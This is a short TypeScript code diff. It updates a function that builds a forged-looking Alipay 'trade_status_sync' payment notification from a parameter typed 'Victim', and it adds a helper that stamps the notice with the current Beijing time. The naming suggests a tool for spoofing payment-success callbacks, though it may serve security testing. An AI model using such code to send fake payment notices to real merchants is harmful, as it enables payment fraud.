@@ -93,7 +93,7 @@ function formOf(said: Buffer): Buffer {
 
 function trade({ app_id, seller_id }: Keys['alipay'], { payment, reference }: Victim): object {
   return {
-    notify_time: '2026-11-25 10:00:02',
+    notify_time: beijingNow(),
     notify_type: 'trade_status_sync',
     notify_id: randomBytes(17).toString('hex'),
     app_id,
@@ -113,6 +113,11 @@ function trade({ app_id, seller_id }: Keys['alipay'], { payment, reference }: Vi
     gmt_payment: '2026-11-25 10:00:01',
     fund_bill_list: `[{"amount":"${yuan(payment.amount)}","fundChannel":"ALIPAYACCOUNT"}]`,
   };
+}
+
+/** Alipay repeats a notice for 25 hours, and writes when it sent it in its own time. */
+function beijingNow(): string {
+  return new Date(Date.now() + 8 * 3_600_000).toISOString().slice(0, 19).replace('T', ' ');
 }
 
 function yuan(fen: number): string {
